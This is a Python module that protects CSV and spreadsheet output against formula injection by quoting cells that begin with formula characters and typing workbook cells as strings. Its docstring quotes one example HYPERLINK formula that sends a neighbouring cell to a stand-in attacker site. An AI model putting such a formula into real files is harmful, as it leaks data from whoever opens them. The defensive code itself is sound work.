"""Learner text is data, never code: values written to CSV files and spreadsheet cells stay text.

A spreadsheet reads a cell that starts with = + - @ (and, after trimming, a tab or carriage return) as a
formula: ``=HYPERLINK("http://evil.example/?d="&F3,"x")`` typed as a learner reference would send the
neighbouring cell to that site when the report is opened. As the OWASP CSV-injection guidance says, such
CSV cells get a leading single quote (spreadsheets show the rest as text), and cells we write into a
workbook are typed as strings (openpyxl ``data_type "s"``, xlsxwriter ``write_string``), or, through
Excel itself (xlwings), carry Excel's own text prefix, the same single quote, which Excel does not show.
"""

from __future__ import annotations

import csv

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def starts_formula(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_START)


def quoted(value):
    """``value`` with a leading ``'`` when a spreadsheet would read it as a formula; other values as they are."""
    return "'" + value if starts_formula(value) else value


class SafeCsvWriter:
    """``csv.writer`` whose every text cell is escaped with ``quoted``. The one way we write CSV files that
    hold learner or user text (the Rule Violation Report, a batch's summary.csv)."""

    def __init__(self, stream, **options):
        self._writer = csv.writer(stream, **options)

    def writerow(self, row) -> None:
        self._writer.writerow([quoted(v) for v in row])

    def writerows(self, rows) -> None:
        for row in rows:
            self.writerow(row)


def as_text_cell(cell):
    """An openpyxl cell holding a string, typed as a string: openpyxl makes any value starting with "=" a
    formula when it is assigned."""
    if isinstance(cell.value, str):
        cell.data_type = "s"
    return cell
